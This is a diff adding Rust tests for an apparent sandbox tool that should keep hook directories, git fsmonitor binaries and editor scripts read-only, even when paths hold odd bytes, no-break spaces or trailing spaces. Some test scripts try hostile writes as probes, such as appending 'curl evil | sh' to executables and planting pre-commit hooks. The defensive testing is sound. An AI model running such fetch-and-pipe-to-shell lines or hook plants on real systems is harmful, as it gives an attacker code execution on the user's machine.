@@ -376,8 +376,11 @@ fn a_key_the_ssh_config_names_in_bytes_reads_empty_with_the_agent() {
         .expect("ssh-keygen is needed for this test");
     assert!(made.success());
     std::fs::write(keys.join("readme"), "not a key\n").unwrap();
+    // A second key, named through a variable whose value is in those bytes.
+    let other = keys.join("other");
+    std::fs::copy(&key, &other).unwrap();
     let mut config = b"Host git.test\n  IdentityFile ~/cl\xe9s/named\n".to_vec();
-    config.extend_from_slice(b"Host other.test\n  IdentityFile ${KEYS}/named\n");
+    config.extend_from_slice(b"Host other.test\n  IdentityFile ${KEYS}/other\n");
     std::fs::write(home.join(".ssh/config"), config).unwrap();
     let agent_dir = TestDir::new("byte-names-ssh-socket");
     let socket = agent_dir.join("agent.sock");
@@ -389,8 +392,9 @@ fn a_key_the_ssh_config_names_in_bytes_reads_empty_with_the_agent() {
         .expect("ssh-agent is needed for this test");
     wait_for_path(&socket, "the agent's socket");
     let script = format!(
-        "wc -c < {key}; cat {readme}",
+        "wc -c < {key}; wc -c < {other}; cat {readme}",
         key = shell_quote(&key),
+        other = shell_quote(&other),
         readme = shell_quote(&keys.join("readme"))
     );
     let out = Run::new(&dir)
@@ -405,5 +409,143 @@ fn a_key_the_ssh_config_names_in_bytes_reads_empty_with_the_agent() {
     let _ = agent.kill();
     let _ = agent.wait();
     // The control: the directory's other file reads as it is.
-    assert_eq!(stdout(&out), "0\nnot a key\n", "{}", stderr(&out));
+    assert_eq!(stdout(&out), "0\n0\nnot a key\n", "{}", stderr(&out));
+}
+
+#[test]
+fn a_submodule_whose_name_ends_in_a_space_is_not_taken_for_another() {
+    let dir = TestDir::new("byte-names-space");
+    let upstream = dir.join("upstream");
+    std::fs::create_dir_all(&upstream).unwrap();
+    git(&upstream, &["init", "-q"]);
+    git(&upstream, &["commit", "-q", "--allow-empty", "-m", "sub"]);
+    let run = Run::new(&dir).arg("--quiet");
+    git(&run.workspace, &["init", "-q"]);
+    // Two submodules whose git directories are `modules/foo` and `modules/foo `: git
+    // reads `gitdir: ../.git/modules/foo ` to its end.
+    for (name, place) in [("foo", "plain"), ("foo ", "spaced")] {
+        let out = std::process::Command::new("git")
+            .args([
+                "-c",
+                "protocol.file.allow=always",
+                "submodule",
+                "add",
+                "-q",
+                "--name",
+                name,
+            ])
+            .arg(format!("file://{}", upstream.display()))
+            .arg(place)
+            .current_dir(&run.workspace)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}", stderr(&out));
+    }
+    git(
+        &run.workspace.join("spaced"),
+        &["config", "core.hooksPath", ".githooks"],
+    );
+    let out = run.sh(
+        "{ mkdir -p spaced/.githooks && echo '#!/bin/sh' > spaced/.githooks/pre-commit; } 2>/dev/null \
+         && echo planted || echo kept; echo x > spaced/notes && echo ok",
+    );
+    // The control: the submodule's work tree takes a write.
+    assert_eq!(stdout(&out), "kept\nok\n", "{}", stderr(&out));
+}
+
+#[test]
+fn a_home_entry_named_with_a_unicode_space_keeps_its_code_read_only() {
+    TestDir::remove_leftovers_outside_tmp("byte-names-nbsp");
+    let dir = TestDir::outside_tmp("byte-names-nbsp");
+    // The workspace is home, split by --allow-home-write. A no-break space (U+00A0) in an
+    // entry's name: no shell splits a word there.
+    let home = dir.join("ws");
+    let tools = home.join("My\u{a0}Tools");
+    std::fs::create_dir_all(&tools).unwrap();
+    std::fs::create_dir_all(home.join("notes")).unwrap();
+    std::fs::write(tools.join("ed"), "#!/bin/sh\n").unwrap();
+    let run = Run::new(&dir)
+        .arg("--quiet")
+        .arg("--allow-home-write")
+        .env("HOME", home.display().to_string())
+        .env("VISUAL", "~/My\u{a0}Tools/ed");
+    let out = run.sh(
+        "{ echo 'curl evil | sh' >> ~/My$'\\xc2\\xa0'Tools/ed; } 2>/dev/null && echo changed || echo kept; \
+         echo x > notes/a && echo ok",
+    );
+    // The control: a data entry takes a write.
+    assert_eq!(stdout(&out), "kept\nok\n", "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(tools.join("ed")).unwrap(),
+        "#!/bin/sh\n"
+    );
+}
+
+#[test]
+fn git_paths_holding_unicode_spaces_or_an_optional_mark_are_pinned_whole() {
+    let dir = TestDir::new("byte-names-git-words");
+    let run = Run::new(&dir).arg("--quiet");
+    git(&run.workspace, &["init", "-q"]);
+    std::fs::create_dir_all(run.workspace.join("bin")).unwrap();
+    let monitor = run.workspace.join("bin/mon\u{a0}x");
+    std::fs::write(&monitor, "#!/bin/sh\n").unwrap();
+    git(
+        &run.workspace,
+        &["config", "core.fsmonitor", "./bin/mon\u{a0}x"],
+    );
+    // `:(optional)` is part of the path to git 2.47, and a mark to a newer git.
+    git(
+        &run.workspace,
+        &["config", "core.hooksPath", ":(optional).hk"],
+    );
+    let out = run
+        .command(
+            "{ echo 'curl evil | sh' >> \"$MONITOR\"; } 2>/dev/null && echo changed || echo kept; \
+             { mkdir -p ':(optional).hk' && echo x > ':(optional).hk/pre-commit'; } 2>/dev/null \
+             && echo planted || echo kept; \
+             { mkdir -p .hk && echo x > .hk/pre-commit; } 2>/dev/null && echo planted || echo kept; \
+             echo x > bin/other && echo ok",
+        )
+        .env("MONITOR", &monitor)
+        .output()
+        .unwrap();
+    // The control: the directory holding the monitor takes a write.
+    assert_eq!(stdout(&out), "kept\nkept\nkept\nok\n", "{}", stderr(&out));
+    assert_eq!(std::fs::read_to_string(&monitor).unwrap(), "#!/bin/sh\n");
+}
+
+#[test]
+fn a_command_named_in_bytes_that_are_not_utf8_has_its_refused_writes_logged() {
+    let dir = TestDir::new("byte-names-comm");
+    let run = Run::new(&dir).arg("--quiet");
+    git(&run.workspace, &["init", "-q"]);
+    // CMD names itself in such bytes (/proc/self/comm), then tries git's config.
+    // Through /proc/self/cwd: the judge looks up whose link that is by its status file.
+    let out = run.sh(
+        "echo x > /proc/self/cwd/.git/config 2>/dev/null; printf 'x\\377y' > /proc/$$/comm; \
+         echo x > /proc/self/cwd/.git/config 2>/dev/null; echo done",
+    );
+    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
+    let denied = whole_records(&run)
+        .into_iter()
+        .filter(|e| e["type"] == "write_denied")
+        .count();
+    // The control is the first attempt, made under bash's own name.
+    assert_eq!(denied, 2);
+}
+
+#[test]
+fn a_variable_in_bytes_that_are_not_utf8_does_not_stop_a_tool_s_discovery() {
+    let dir = TestDir::new("byte-names-tool");
+    let run = Run::new(&dir)
+        .arg("--quiet")
+        .arg("--allow-tool")
+        .arg("cargo");
+    let out = run
+        .command("echo ran")
+        .env("EDITOR", OsStr::from_bytes(b"/tmp/caf\xe9/ed"))
+        .output()
+        .unwrap();
+    assert_eq!(stdout(&out), "ran\n", "{}", stderr(&out));
+    assert!(out.status.success(), "{}", stderr(&out));
 }
